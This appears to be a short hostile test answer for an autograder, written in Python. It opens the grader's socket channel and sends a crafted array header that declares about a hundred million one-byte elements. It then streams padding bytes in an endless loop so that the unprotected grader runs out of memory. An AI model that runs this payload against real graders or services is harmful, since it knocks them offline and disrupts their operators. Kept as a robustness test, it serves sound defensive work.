# %%answer hello_ranks
# tries: sends one event of a hundred million empty lists, a byte each, that take 64 in memory
# unprotected: the grader runs out of memory
# on: channel
def hello(number):
    with socket.socket(fileno=os.dup(channel())) as out:
        out.sendall(b"\xdd\x3f\xff\xff\xff")
        while True:
            out.sendall(b"\x90" * 2**20)
